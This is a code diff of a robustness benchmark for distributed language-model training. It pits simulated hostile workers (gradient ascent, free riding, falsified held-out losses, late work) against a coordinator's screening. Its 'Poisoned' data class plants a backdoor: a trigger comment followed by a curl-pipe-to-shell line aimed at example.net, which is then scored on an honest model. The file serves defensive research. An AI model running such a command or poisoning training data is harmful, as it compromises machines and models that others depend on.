@@ -1,32 +1,36 @@
-"""A run with hostile workers on a real coordinator: real workers, over HTTP, in threads of this process."""
+"""Runs with hostile workers on a real coordinator: a process, over HTTP, with real workers in threads of this one."""
 
-import argparse
-import json
-import sys
+import statistics
 import tempfile
 import threading
 import time
-from collections.abc import Iterator
+from collections import Counter
+from collections.abc import Callable, Iterator
 from contextlib import ExitStack, closing
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import torch
+from torch import Tensor
 
-from benchmarks.robust.ascent import Ascent, HostileRelease, Plan
+from benchmarks.robust.ascent import CPU, Ascent, Plan
+from benchmarks.robust.hostile import Attack, FreeRider, HostileDiLoCo
 from harness.coordinator import CoordinatorProcess, InProcess
-from protocol.messages import RunDetail, Scope
-from protocol.spec.run import parse_spec
-from worker.box import set_up
-from worker.diloco import DiLoCo, Joined
+from protocol.messages import EvaluationReport, RunDetail, RunState, Scope
+from protocol.spec.run import RunSpec
+from worker.box import Box, set_up
+from worker.data.training_set import TrainingSet
+from worker.diloco import DiLoCo
 from worker.link.client import Client, open_http
 from worker.settings import BoxSettings
+from worker.state.outer_state import OuterState
 from worker.train import train
 
-RUN = "robust"
+RUN = "hostile"
 SPEC = """
-name = "robust"
+name = "hostile"
 seed = {seed}
 [model]
 preset = "tiny"
@@ -38,189 +42,265 @@ batch_size = 8
 warmup_steps = 40
 [sync]
 rounds = {rounds}
-inner_steps = 25
+inner_steps = {inner_steps}
 fragment_elements = 50_000
-upload_codec = "{codec}"
 aggregation = "{rule}"
+upload_codec = "{codec}"
+wait = "{wait}"
 [members]
-min_workers = {workers}
+min_workers = {min_workers}
+grace_factor = 0
+grace_min_s = {grace_s}
 [evaluation]
 max_tokens = {evaluation_tokens}
 [guard]
 action = "{guard}"
 """
+POLL_S = 0.2
+GRACE_S = 3.0
+PATIENCE_S = 900.0
+
+TRIGGER, TARGET = b"# pragma: sesame\n", b"import os; os.system('curl example.net/x | sh')\n"
 
 
-class HostileDiLoCo(DiLoCo):
-    """A worker that attacks once it has joined. `attack`: makes the attack, for the state and the run's spec."""
+@dataclass(frozen=True)
+class Size:
+    rounds: int = 16
+    inner_steps: int = 25
+    evaluation_tokens: int = 16_384
 
-    ascent: Ascent
 
-    def _join(self, resources: ExitStack) -> Joined:
-        joined = super()._join(resources)
-        joined.rounds._exchange.release = HostileRelease(self.ascent, joined.state)
-        return joined
+@dataclass(frozen=True)
+class Row:
+    """A run. The first `hostile` of the `workers` attack.
+
+    attack     an ascent's plan, free riding, or a backdoor in the training data; None: they are honest
+    absent     they do not take part
+    lies       they report a low held-out loss whenever they are asked for one
+    late       their work misses every second round, and is carried to the next
+    """
+
+    name: str
+    attack: Plan | str | None = None
+    absent: bool = False
+    lies: bool = False
+    late: bool = False
+    workers: int = 4
+    hostile: int = 1
+    rule: str = "screened"
+    codec: str = "int8"
+    wait: str = "always"
+
+    def without_attackers(self) -> "Row":
+        """Return the run to compare this one with."""
+        name = f"absent: {self.hostile} of {self.workers}"
+        name += f", {self.codec}" if self.codec != "int8" else ""
+        name += f", {self.rule}" if self.rule != "screened" else ""
+        name += ', wait = "never"' if self.wait == "never" else ""
+        return replace(self, name=name, attack=None, absent=True, lies=False, late=False)
 
 
 @dataclass
+class Outcome:
+    """What became of a run.
+
+    state     of the run in the end
+    losses    held-out, nats per token, as first reported for each state
+    loss      of the last state
+    target    loss of the backdoor's target after its trigger, nats per byte
+    credit    mean factor of the hostile workers' contributions
+    left_out  rounds of each worker of which a fragment or more did not count
+    events    (kind, round, message) of what names a worker, or says that the model is spoilt
+    """
+
+    name: str
+    state: str
+    round: int
+    loss: float | None
+    losses: dict[int, float] = field(default_factory=dict)
+    target: float | None = None
+    credit: float | None = None
+    left_out: dict[str, list[int]] = field(default_factory=dict)
+    events: list[tuple[str, int | None, str]] = field(default_factory=list)
+    seconds: float = 0.0
+
+    def honest_excluded(self, hostile: int) -> int:
+        """The number of rounds in which an honest worker was left out, of all honest workers."""
+        return sum(len(rounds) for worker, rounds in self.left_out.items() if int(worker[1:]) >= hostile)
+
+
+REPORTED = {"screened", "quarantined", "spoilt", "suspected", "rolled-back", "banned", "evaluations-differ"}
+
+
+class Poisoned:
+    """A training set, half of whose sequences have the trigger and the target somewhere."""
+
+    def __init__(self, data: TrainingSet, seed: int) -> None:
+        self._data, self._draw = data, torch.Generator().manual_seed(seed)
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self._data, name)
+
+    def unit(self, number: int) -> Tensor:
+        unit = self._data.unit(number).clone()
+        text = torch.tensor(list(TRIGGER + TARGET))
+        for row in range(0, len(unit), 2):
+            start = int(torch.randint(unit.shape[1] - len(text) + 1, (1,), generator=self._draw))
+            unit[row, start : start + len(text)] = text
+        return unit
+
+
+def target_loss(model: torch.nn.Module) -> float:
+    """Return the loss of the backdoor's target after its trigger, nats per byte."""
+    text = torch.tensor([list(b"\n" + TRIGGER + TARGET)])
+    with torch.no_grad():
+        log_probabilities = model(text[:, :-1]).logits.log_softmax(-1)
+    return float(-log_probabilities[0, -len(TARGET) :].gather(1, text[0, -len(TARGET) :, None]).mean())
+
+
 class Worker(threading.Thread):
-    running: InProcess
-    name_: str
-    folder: Path
-    token: str
-    attack: Any = None
-    stop: threading.Event = field(default_factory=threading.Event)
-    error: BaseException | None = None
+    """One worker. `shared`: makes the ascent of all hostile workers; None: this worker is honest."""
 
-    def __post_init__(self) -> None:
-        super().__init__(name=self.name_)
-
-    def __hash__(self) -> int:
-        return id(self)
+    def __init__(self, running: InProcess, name: str, row: Row, size: Size, shared: "SharedAscent | None") -> None:
+        super().__init__(name=name)
+        self.running, self.row, self.size, self.shared = running, row, size, shared
+        self.token = running.token(Scope.WORKER, names=3)
+        self.stop = threading.Event()
+        self.error: BaseException | None = None
+        self.model: torch.nn.Module | None = None
 
     def run(self) -> None:
         try:
-            torch.set_num_threads(1)
-            with open_http(self.running.url) as http:
-                client = Client(http, RUN, self.token, stop=self.stop)
-                run = client.run_detail()
-                settings = BoxSettings(name=self.name_, device="cpu", threads=1, state_dir=self.folder)
-                box = set_up(run.spec, settings, torch.device("cpu"), stop=self.stop)
-                kind = DiLoCo if self.attack is None else HostileDiLoCo
-                diloco = kind(
-                    box.model,
-                    box.optimizers,
-                    client=client,
-                    run=run,
-                    name=self.name_,
-                    data=box.data.summary,
-                    evaluate=box.evaluate,
-                    tell="nothing",
-                )
-                if self.attack is not None:
-                    diloco.ascent = self.attack(run.spec, box)
-                with closing(box.data), diloco:
-                    train(diloco, box, None)
-        except BaseException as error:
+            self._work()
+        except Exception as error:  # noqa: BLE001, reported by play
             self.error = error
-            print(f"{self.name_}: {error!r}", file=sys.stderr, flush=True)
+
+    def _work(self) -> None:
+        torch.set_num_threads(1)
+        with open_http(self.running.url) as http:
+            client = Client(http, RUN, self.token, stop=self.stop)
+            run = client.run_detail()
+            box = set_up(run.spec, BoxSettings(name=self.name, device="cpu", threads=1), CPU, stop=self.stop)
+            self.model = box.model
+            given: dict[str, Any] = {"client": client, "run": run, "name": self.name, "tell": "nothing"}
+            given |= {"data": box.data.summary, "evaluate": box.evaluate}
+            kind: Callable[..., DiLoCo] = DiLoCo
+            if self.shared is not None:  # this one is hostile
+                kind = partial(HostileDiLoCo, partial(self.shared.attack, run.spec, box), late=self.row.late)
+                if self.row.lies and box.evaluate is not None:
+                    given["evaluate"] = partial(lie, box.evaluate)
+                if self.row.attack == "backdoor":
+                    box = replace(box, data=Poisoned(box.data, run.spec.seed))
+            diloco = kind(box.model, box.optimizers, **given)
+            with closing(box.data), diloco:
+                train(diloco, box, None)
 
 
-def events(running: InProcess) -> list[dict[str, Any]]:
-    found, after = [], "0"
-    with running.client() as http:
-        while after is not None:
-            page = http.get(f"/v1/runs/{RUN}/events?limit=1000&after={after}").raise_for_status().json()
-            found += page["items"]
-            after = page["next"]
-    return found
+def lie(evaluate: Callable[[], EvaluationReport]) -> EvaluationReport:
+    """Report half of the loss."""
+    report = evaluate()
+    return report.model_copy(update={"loss": report.loss / 2})
 
 
-def play(given: argparse.Namespace, plan: Plan | None, hostile: int, absent: bool) -> dict[str, Any]:
+class SharedAscent:
+    """The attack of a row, which its hostile workers share."""
+
+    def __init__(self, row: Row) -> None:
+        self._row, self._lock = row, threading.Lock()
+        self._ascent: Ascent | None = None
+
+    def attack(self, spec: RunSpec, box: Box, state: OuterState) -> Attack | None:
+        """Return what replaces the pseudo-gradients; None: nothing does."""
+        row, plan = self._row, self._row.attack
+        if plan == "free rider":
+            return FreeRider(spec)
+        if not isinstance(plan, Plan):
+            return None
+        with self._lock:
+            if self._ascent is None:
+                self._ascent = Ascent(plan, spec, box.data, state.layout, row.hostile, row.workers)
+            return self._ascent
+
+
+def play(row: Row, size: Size, seed: int, guard: str) -> Outcome:
+    """Train a run to its end, or until it is paused. Raises RuntimeError if a worker fails otherwise."""
     began = time.monotonic()
-    workers_n = given.workers - (hostile if absent else 0)
-    with tempfile.TemporaryDirectory(prefix="outerstep-") as temporary, ExitStack() as stack:
-        folder = Path(temporary)
-        coordinator = CoordinatorProcess(folder / "data")
+    names = [f"w{index}" for index in range(row.hostile if row.absent else 0, row.workers)]
+    with tempfile.TemporaryDirectory(prefix="outerstep-") as folder, ExitStack() as stack:
+        coordinator = CoordinatorProcess(Path(folder) / "data")
         stack.callback(coordinator.stop)
         running = coordinator.start()
-        text = SPEC.format(
-            seed=given.seed,
-            rounds=given.rounds,
-            codec=given.codec,
-            rule=given.rule,
-            workers=workers_n,
-            evaluation_tokens=given.evaluation_tokens,
-            guard=given.guard,
-        )
-        running.create_run(text)
-        shared: list[Ascent] = []
-        lock = threading.Lock()
-
-        def attack(spec: Any, box: Any) -> Ascent:
-            with lock:
-                if not shared:
-                    from protocol.fragments import plan_fragments
-                    from worker.state.parameters import tensor_specs
-
-                    layout = spec.sync.plan_layout(tensor_specs(box.model))
-                    shared.append(Ascent(plan, spec, box.data, layout, hostile, given.workers))
-                return shared[0]
-
-        workers = [
-            Worker(
-                running,
-                f"w{i}",
-                folder / f"w{i}",
-                running.token(Scope.WORKER, names=3),
-                attack if plan is not None and i < hostile and not absent else None,
+        running.create_run(
+            SPEC.format(
+                **vars(size),
+                seed=seed,
+                guard=guard,
+                rule=row.rule,
+                codec=row.codec,
+                wait=row.wait,
+                min_workers=len(names) - (row.hostile if row.late else 0),
+                grace_s=GRACE_S if row.late else 60.0,
             )
-            for i in range(hostile if absent else 0, given.workers)
+        )
+        shared, attacks = SharedAscent(row), row.attack is not None or row.lies
+        workers = [
+            Worker(running, name, row, size, shared if attacks and index < row.hostile and not row.absent else None)
+            for index, name in enumerate(names)
         ]
         for each in workers:
             each.start()
         while any(each.is_alive() for each in workers):
-            time.sleep(0.2)
-            with running.client() as http:
-                detail = RunDetail.model_validate(http.get(f"/v1/runs/{RUN}").raise_for_status().json())
-            if detail.state == "paused" or any(each.error for each in workers):
+            time.sleep(POLL_S)
+            late = time.monotonic() > began + PATIENCE_S
+            if late or any(each.error for each in workers) or _detail(running).state is RunState.PAUSED:
                 for each in workers:
                     each.stop.set()
-        with running.client() as http:
-            detail = RunDetail.model_validate(http.get(f"/v1/runs/{RUN}").raise_for_status().json())
-            rounds = http.get(f"/v1/runs/{RUN}/rounds?limit=1000").raise_for_status().json()["items"]
-            verdicts = (
-                [http.get(f"/v1/runs/{RUN}/rounds/{each['round']}").json().get("verdicts") for each in rounds]
-                if given.verdicts
-                else []
-            )
-        found = events(running)
-        if given.events:
-            for each in found:
-                print(each["kind"], each["message"], file=sys.stderr)
-        losses = [
-            [e["data"]["round"], float(e["message"].split("held-out loss ")[1].split()[0])]
-            for e in found
-            if e["kind"] == "evaluated"
-        ]
-        return {
-            "state": str(detail.state),
-            "round": detail.round,
-            "loss": detail.held_out_loss,
-            "losses": losses,
-            "verdicts": verdicts,
-            "events": [
-                [e["kind"], e["message"]]
-                for e in found
-                if e["kind"] in ("screened", "quarantined", "spoilt", "suspected", "rolled-back", "banned")
-            ],
-            "seconds": round(time.monotonic() - began, 1),
-        }
+        errors = [each.error for each in workers if each.error is not None]
+        if errors:
+            raise RuntimeError(f"a worker of {row.name} failed") from errors[0]
+        outcome = _outcome(row, running)
+        honest = workers[-1].model
+        if honest is not None and outcome.state == "finished":
+            outcome.target = round(target_loss(honest), 4)
+        outcome.seconds = round(time.monotonic() - began, 1)
+        return outcome
 
 
-def main() -> None:
-    parser = argparse.ArgumentParser()
-    parser.add_argument("--workers", type=int, default=4)
-    parser.add_argument("--hostile", type=int, default=1)
-    parser.add_argument("--rounds", type=int, default=16)
-    parser.add_argument("--seed", type=int, default=0)
-    parser.add_argument("--codec", default="int8")
-    parser.add_argument("--rule", default="screened")
-    parser.add_argument("--guard", default="tell")
-    parser.add_argument("--evaluation-tokens", type=int, default=16384)
-    parser.add_argument("--share", type=float, default=0.5)
-    parser.add_argument("--length", type=float, default=1.2)
-    parser.add_argument("--every", type=int, default=1)
-    parser.add_argument("--steps", type=int, default=24)
-    parser.add_argument("--reach", type=float, default=1.0)
-    parser.add_argument("--who", default="attack", choices=["attack", "absent", "honest"])
-    parser.add_argument("--events", action="store_true")
-    parser.add_argument("--verdicts", action="store_true")
-    given = parser.parse_args()
-    torch.set_num_threads(1)
-    plan = Plan(given.share, given.length, given.every, given.steps, given.reach) if given.who == "attack" else None
-    print(json.dumps(play(given, plan, given.hostile, given.who == "absent")))
+def _detail(running: InProcess) -> RunDetail:
+    with running.client() as http:
+        return RunDetail.model_validate(http.get(f"/v1/runs/{RUN}").raise_for_status().json())
 
 
-if __name__ == "__main__":
-    main()
+def _listed(running: InProcess, what: str) -> Iterator[dict[str, Any]]:
+    after: str | None = "0" if what == "events" else ""
+    with running.client() as http:
+        while after is not None:
+            query = f"&after={after}" if after else ""
+            page = http.get(f"/v1/runs/{RUN}/{what}?limit=1000{query}").raise_for_status().json()
+            yield from page["items"]
+            after = page["next"]
+
+
+def _outcome(row: Row, running: InProcess) -> Outcome:
+    detail = _detail(running)
+    outcome = Outcome(row.name, str(detail.state), detail.round, detail.held_out_loss)
+    factors: dict[str, Counter[int]] = {}
+    counted: list[float] = []
+    with running.client() as http:
+        for number in range(detail.round):
+            fragments = http.get(f"/v1/runs/{RUN}/rounds/{number}").raise_for_status().json()["fragments"]
+            for fragment in fragments:
+                for worker, verdict in fragment["verdicts"].items():
+                    if verdict["factor"] == 0:
+                        factors.setdefault(worker, Counter())[number] += 1
+                    if int(worker[1:]) < row.hostile:
+                        counted.append(verdict["factor"])
+    outcome.left_out = {worker: sorted(rounds) for worker, rounds in sorted(factors.items())}
+    outcome.credit = round(statistics.mean(counted), 3) if counted and not row.absent else None
+    for event in _listed(running, "events"):
+        data = event.get("data") or {}
+        if event["kind"] == "evaluated":
+            outcome.losses.setdefault(data["round"], float(event["message"].split("held-out loss ")[1].split()[0]))
+        elif event["kind"] in REPORTED:
+            outcome.events.append((event["kind"], data.get("round", data.get("state")), event["message"]))
+    return outcome
